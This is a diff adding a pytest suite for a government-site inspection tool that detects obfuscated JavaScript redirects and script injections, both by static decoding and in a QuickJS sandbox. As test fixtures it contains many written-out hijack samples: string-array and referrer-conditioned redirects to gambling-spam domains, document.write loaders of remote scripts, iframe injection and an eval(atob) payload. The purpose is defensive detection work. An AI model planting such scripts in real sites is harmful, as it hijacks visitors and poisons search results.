@@ -1,0 +1,287 @@
+"""Obfuscated script redirects: static decoding of the new forms, the QuickJS sandbox, and the crawl end to end."""
+
+from __future__ import annotations
+
+import time
+from datetime import date
+
+import pytest
+
+from govinspect.checks import Context, run_checks
+from govinspect.checks.hijack import check as hijack_check
+from govinspect.extract.html import extract_page
+from govinspect.extract.jsbox import LIMIT_TECHNIQUE, ScriptSandbox, sandbox_candidates, suspicious
+from govinspect.extract.scripts import find_targets, index_arrays
+from govinspect.model import Page, SiteEntry
+from govinspect.rules import load_rules
+from govinspect.service import scan
+from govinspect.settings import Settings
+from govinspect.snapshot import Snapshot
+
+from .support import LoopbackServer, html
+
+AS_OF = date(2024, 5, 20)
+HOME = "http://www.example-county.gov.cn/"
+SITE = SiteEntry(name="某县人民政府", url=HOME)
+
+
+def _hex(s: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in s)
+
+
+def _uni(s: str) -> str:
+    return "".join(f"\\u{ord(c):04x}" for c in s)
+
+
+def page_from(body: str, url: str = HOME + "xwzx/t20240510_1.html", head: str = "") -> Page:
+    page = Page(url=url, final_url=url, status=200, content_type="text/html")
+    extract_page(page, f"<html><head><meta charset='utf-8'><title>要闻</title>{head}</head><body>{body}</body></html>", AS_OF)  # fmt: skip
+    return page
+
+
+def hijacks(*pages: Page) -> list[dict[str, object]]:
+    snap = Snapshot(SITE, as_of=AS_OF)
+    snap.scope_hosts = {"www.example-county.gov.cn"}
+    snap.add_page(Page(url=HOME, final_url=HOME, status=200, content_type="text/html"), home=True)
+    for page in pages:
+        snap.add_page(page)
+    return [f.evidence for f in hijack_check(snap, Context(as_of=AS_OF, rules=load_rules(), site=SITE))]
+
+
+@pytest.fixture(scope="module")
+def sandbox():
+    box = ScriptSandbox(seconds=0.5)
+    yield box
+    box.close()
+
+
+# --- static decoding of the new forms --------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("code", "url", "technique"),
+    [
+        # a javascript-obfuscator style string array read by index into window[...][...]
+        ("var _0x1a2b=['" + _hex("location") + "','" + _hex("href") + "','" + _hex("http://www.yl8899.com/")
+         + "'];window[_0x1a2b[0]][_0x1a2b[1]]=_0x1a2b[2];", "http://www.yl8899.com/", "location"),
+        ('var _0xab=["' + _uni("top") + '","' + _uni("location") + '","' + _uni("replace") + '","'
+         + _uni("https://a-bet.cc/") + '"];window[_0xab[0x0]][_0xab[0x1]][_0xab[0x2]](_0xab[0x3]);',
+         "https://a-bet.cc/", "location"),
+        ("var k=['document','write','<script src=\"http://x.cc/a.js\"></scr'+'ipt>'];window[k[0]][k[1]](k[2]);",
+         "http://x.cc/a.js", "document_write"),
+        ("parent.location.href='http://p-spam.com/'", "http://p-spam.com/", "location"),
+        ("self.location='http://s-spam.com/'", "http://s-spam.com/", "location"),
+        ("location.assign('http://as-spam.com/')", "http://as-spam.com/", "location"),
+        ("window.top.location.href = \"http://t-spam.com/\"", "http://t-spam.com/", "location"),
+        ("location['replace']('http://br-spam.com/')", "http://br-spam.com/", "location"),
+        ("document['write']('<a href=\"http://dw-spam.com\">x</a>')", "http://dw-spam.com", "document_write"),
+        ("document.write('<scr'+'ipt type=\"text/javascript\" src=\"http://w.cc/1.js\"></scr'+'ipt>');",
+         "http://w.cc/1.js", "document_write"),
+        ("setTimeout(\"location.href='http://st-spam.com/'\", 3000);", "http://st-spam.com/", "location"),
+        ("setTimeout('window.location.replace(\"http://st2.com/\")',0)", "http://st2.com/", "location"),
+        ("if(document.referrer.indexOf('baidu')!=-1){location.href='http://ref-spam.com/'}",
+         "http://ref-spam.com/", "referrer_check"),
+    ],
+)  # fmt: skip
+def test_new_static_forms(code: str, url: str, technique: str) -> None:
+    assert [(t.url, t.technique) for t in find_targets(code)] == [(url, technique)]
+
+
+def test_string_array_reads_are_replaced_and_out_of_range_reads_kept() -> None:
+    assert index_arrays("var a=['x','y'];f(a[1],a[0x0],a[7],ba[1])") == "var a=['x','y'];f('y','x',a[7],ba[1])"
+
+
+# --- clean government scripts ----------------------------------------------------------------
+
+CLEAN_SCRIPTS = [
+    # menus and tabs (display toggles), a date line, a search button, a back button
+    "function showMenu(i){for(var j=1;j<=6;j++){document.getElementById('sub'+j).style.display=(i==j)?'block':'none';}}",
+    "$(function(){$('.tab-hd li').hover(function(){var i=$(this).index();$(this).addClass('on').siblings().removeClass('on');"
+    "$('.tab-bd .item').eq(i).show().siblings().hide();});});",
+    "var d=new Date();var w=['日','一','二','三','四','五','六'];document.write(d.getFullYear()+'年'+(d.getMonth()+1)+'月'"
+    "+d.getDate()+'日 星期'+w[d.getDay()]);",
+    "function doSearch(){var kw=document.getElementById('kw').value;if(!kw){alert('请输入关键词');return false;}"
+    "window.location.href='/search?q='+encodeURIComponent(kw);}",
+    # the Baidu statistics loader as its help page gives it, written in our own words
+    "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?0a1b2c3d4e5f';"
+    "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s);})();",
+    # a JSONP callback and a font-size switcher read window[...] with a variable
+    "function jsonp(u,cb){var n='cb'+(+new Date());window[n]=function(d){cb(d);};var s=document.createElement('script');"
+    "s.src=u+'&callback='+n;document.getElementsByTagName('head')[0].appendChild(s);}",
+    "function setFont(size){var el=document.getElementById('zoom');el.style.fontSize=size+'px';window['curSize']=size;}",
+    # mobile redirect to the site's own mobile pages
+    "if(/Android|iPhone|iPad/i.test(navigator.userAgent)){window.location.href='http://m.example-county.gov.cn/';}",
+    # a packed vendor helper (Dean Edwards' packer) that only sets a cookie
+    "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;"
+    "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp("
+    "'\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1=\\'2=3\\';',4,4,'document|cookie|visited|1'.split('|'),0,{}))",
+    # Chinese labels written as \\u escapes (a CMS's menu data)
+    "var labels=['" + "','".join(_uni(w) for w in ("首页", "政务公开", "政务服务", "互动交流", "走进本县", "专题专栏",
+                                                    "通知公告", "政策文件", "政策解读", "领导信息", "机构职能")) + "'];",
+]  # fmt: skip
+
+
+def test_clean_scripts_give_no_hijack_even_through_the_sandbox(sandbox: ScriptSandbox) -> None:
+    body = (
+        "<div id='nav'><a href='/'>首页</a></div><input id='kw'><button onclick='doSearch()'>搜索</button>"
+        "<a href='javascript:void(0)' onclick=\"location.href='/'\">返回</a>"
+        "<a href='#' onclick=\"window.location.href='/xxgk/'\">信息公开</a>"
+        + "".join(f"<script>{code}</script>" for code in CLEAN_SCRIPTS)
+    )
+    page = page_from(body)
+    # The escape-heavy menu data and the JSONP helper are worth a run; the run finds nothing harmful.
+    assert page.pending_scripts
+    sandbox.apply(page)
+    assert not page.pending_scripts
+    assert not [t for t in page.script_targets if t["technique"] == LIMIT_TECHNIQUE]
+    assert hijacks(page) == []
+
+
+@pytest.mark.parametrize("code", CLEAN_SCRIPTS[:5])
+def test_plain_scripts_are_not_suspicious(code: str) -> None:
+    assert not suspicious(code)
+
+
+def test_statically_read_scripts_are_not_sent_to_the_sandbox() -> None:
+    code = "var _0x1a2b=['" + _hex("http://www.yl8899.com/") + "'];top.location.href=_0x1a2b[0];"
+    assert suspicious(code) and sandbox_candidates([code]) == []
+
+
+# --- the sandbox -------------------------------------------------------------------------------
+
+
+def _rotated(words: list[str], name: str = "_0x3f2a") -> str:
+    """A string array stored rotated by one and put back at run time, read through an accessor."""
+    stored = words[-1:] + words[:-1]
+    return (
+        f"var {name}=[" + ",".join("'" + _hex(w) + "'" for w in stored) + "];"
+        f"(function(_0x1b,_0x2c){{var _0x4d=function(_0x5e){{while(--_0x5e){{_0x1b['push'](_0x1b['shift']());}}}};"
+        f"_0x4d(++_0x2c);}}({name},0x1));"
+        f"var _0x19c4=function(_0x3a){{_0x3a=_0x3a-0x0;return {name}[_0x3a];}};"
+    )
+
+
+def test_rotated_string_array_redirect_is_found_by_the_sandbox(sandbox: ScriptSandbox) -> None:
+    code = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
+        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
+    )
+    page = page_from(f"<p>正文</p><script>var menu=1;</script><script>{code}</script>")
+    assert not [t for t in page.script_targets if t["url"]]  # static decoding cannot read it
+    sandbox.apply(page)
+    [target] = [t for t in page.script_targets if t["via"] == "sandbox"]
+    assert target["url"] == "http://www.ag9988.vip/" and target["technique"] == "location"
+    assert target["script"] == 1 and target["snippet"].startswith("var _0x3f2a=")
+    [finding] = hijacks(page)
+    assert finding["kind"] == "js_redirect" and finding["target"] == "http://www.ag9988.vip/"
+
+
+def test_referrer_and_spider_conditions_show_as_referrer_check(sandbox: ScriptSandbox) -> None:
+    by_referrer = (
+        "var r=document[String.fromCharCode(114,101,102,101,114,114,101,114)];"
+        "var u=['ht','tp://www.','xpj','55.com/'];"
+        "if(r.indexOf('baidu')>-1||r.indexOf('sogou')>-1){window[String.fromCharCode(108,111,99,97,116,105,111,110)]=u.join('');}"
+    )
+    by_agent = (
+        "var a=navigator['user'+'Agent'].toLowerCase(),h=['<a href=\"http://www.','bwin88','.net/\">体育</a>'];"
+        "if(a.indexOf('spider')>=0){document.write(h.join(''));}"
+    )
+    page = page_from(f"<script>{by_referrer}</script><script>{by_agent}</script>")
+    sandbox.apply(page)
+    found = {t["url"]: (t["technique"], t["variant"]) for t in page.script_targets if t["via"] == "sandbox"}
+    assert found == {"http://www.xpj55.com/": ("referrer_check", "search"),
+                     "http://www.bwin88.net/": ("referrer_check", "spider")}  # fmt: skip
+
+
+def test_written_scripts_timers_and_load_handlers_run_but_clicks_do_not(sandbox: ScriptSandbox) -> None:
+    code = (
+        "var p=[104,116,116,112,58,47,47],q=function(a){return String.fromCharCode.apply(null,p.concat(a))};"
+        "document.write('<script>location.replace(q([119,46,99,111,109,47]))<\\/script>');"
+        "setTimeout(function(){var s=document.createElement('script');s.src=q([120,46,99,99,47,97,46,106,115]);"
+        "document.getElementsByTagName('head')[0].appendChild(s);},2000);"
+        "window.onload=function(){document.getElementById('f').innerHTML='<iframe src=\"'+q([105,46,99,111,109,47])+'\"></iframe>'};"
+        "document.getElementById('b').onclick=function(){location.href=q([99,46,99,111,109,47])};"
+        "$('#b').click(function(){location.href=q([99,50,46,99,111,109,47])});"
+    )
+    page = page_from(f"<script>{code}</script>")
+    sandbox.apply(page)
+    found = {t["url"]: t["technique"] for t in page.script_targets if t["via"] == "sandbox"}
+    assert found == {"http://w.com/": "location", "http://x.cc/a.js": "script_inject", "http://i.com/": "inner_html"}
+
+
+@pytest.mark.parametrize(
+    ("code", "reason"),
+    [
+        ("var _0x1=1;for(;;){}", "timeout"),
+        ("var _0x2=[];for(;;){_0x2.push('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'+_0x2.length)}", "memory"),
+        # a catastrophic regular expression is not interrupted by QuickJS: the process is killed
+        ("var _0x3=/(a+)+b/;_0x3.test('a'.repeat(40));", "killed"),
+    ],
+)
+def test_scripts_that_never_end_become_notices_on_time(code: str, reason: str) -> None:
+    box = ScriptSandbox(seconds=0.3)
+    try:
+        page = page_from(
+            "<script>var _0xabc=window[String.fromCharCode(116,111,112)];</script>"
+            f"<script>{code}</script><script>eval(atob('bG9jYXRpb24uaHJlZj0naHR0cDovL2xhdGUuY29tLyc='))</script>"
+        )
+        start = time.monotonic()
+        box.apply(page)
+        assert time.monotonic() - start < 6
+        limits = [t for t in page.script_targets if t["technique"] == LIMIT_TECHNIQUE]
+        assert limits and limits[0]["reason"] == reason
+        if reason != "killed":  # the looping script is named, and the scripts after it still ran
+            assert limits[0]["script"] == 1 and limits[0]["snippet"].startswith(code[:20])
+        snap = Snapshot(SITE, as_of=AS_OF)
+        snap.add_page(Page(url=HOME, final_url=HOME, status=200, content_type="text/html"), home=True)
+        snap.add_page(page)
+        notices = [f for f in run_checks(snap, Context(as_of=AS_OF, rules=load_rules(), site=SITE), ["sandbox"])]
+        assert [(f.code, f.severity, f.url) for f in notices] == [("crawl.incomplete", "notice", page.url)]
+        assert "沙箱" in notices[0].message
+        # the sandbox is usable again after a kill
+        again = page_from("<script>var c=[104,116,116,112,58,47,47,97,46,99,111,109,47];"
+                          "window['loca'+'tion']=String.fromCharCode.apply(null,c);</script>")
+        box.apply(again)
+        assert [(t["url"], t["via"]) for t in again.script_targets] == [("http://a.com/", "sandbox")]
+    finally:
+        box.close()
+
+
+def test_identical_template_scripts_run_once_and_runs_are_capped() -> None:
+    box = ScriptSandbox(seconds=0.3, max_runs=2)
+    try:
+        code = "var _0x1=window[String.fromCharCode(100,111,99,117,109,101,110,116)];"
+        for n in range(5):
+            box.apply(page_from(f"<script>{code}</script>", url=f"{HOME}xwzx/t2024051{n}_1.html"))
+        assert box.runs == 1
+        box.apply(page_from("<script>var _0x2=window[a];</script>"))
+        capped = page_from("<script>var _0x3=window[b];</script>")
+        box.apply(capped)
+        assert box.runs == 2
+        assert [t["reason"] for t in capped.script_targets] == ["capped"]
+    finally:
+        box.close()
+
+
+# --- the crawl -----------------------------------------------------------------------------------
+
+
+def test_crawl_runs_the_sandbox_and_the_scan_reports_it() -> None:
+    obfuscated = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
+        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
+    )
+    home = "<html><head><title>某县人民政府</title></head><body><a href='/xwzx/a.html'>要闻</a></body></html>"
+    article = f"<html><head><title>要闻</title><script>{obfuscated}</script></head><body><p>正文内容</p></body></html>"
+    looping = "<html><head><title>通知</title><script>var _0x4f2a=1;while(_0x4f2a){}</script></head><body><p>通知</p></body></html>"  # fmt: skip
+    home += "<a href='/tzgg/b.html'>通知</a>"
+    settings = Settings(per_host=2, delay=0, timeout=5, offline=True, cloak_sample=0, search_probe=False,
+                        transport_probes=False)  # fmt: skip
+    with LoopbackServer({"/": html(home), "/xwzx/a.html": html(article), "/tzgg/b.html": html(looping)}) as srv:
+        start = time.monotonic()
+        result = scan([SiteEntry(name="某县人民政府", url=srv.url("/"))], settings, AS_OF)
+        assert time.monotonic() - start < 30
+    findings = result.sites[0].findings
+    [hijack] = [f for f in findings if f.code == "security.hijack"]
+    assert hijack.url == srv.url("/xwzx/a.html") and hijack.evidence["target"] == "http://www.ag9988.vip/"
+    assert hijack.evidence["decoded"] == ["sandbox"]
+    [notice] = [f for f in findings if f.code == "crawl.incomplete" and "沙箱" in f.message]
+    assert notice.url == srv.url("/tzgg/b.html") and notice.evidence["script"] == 1
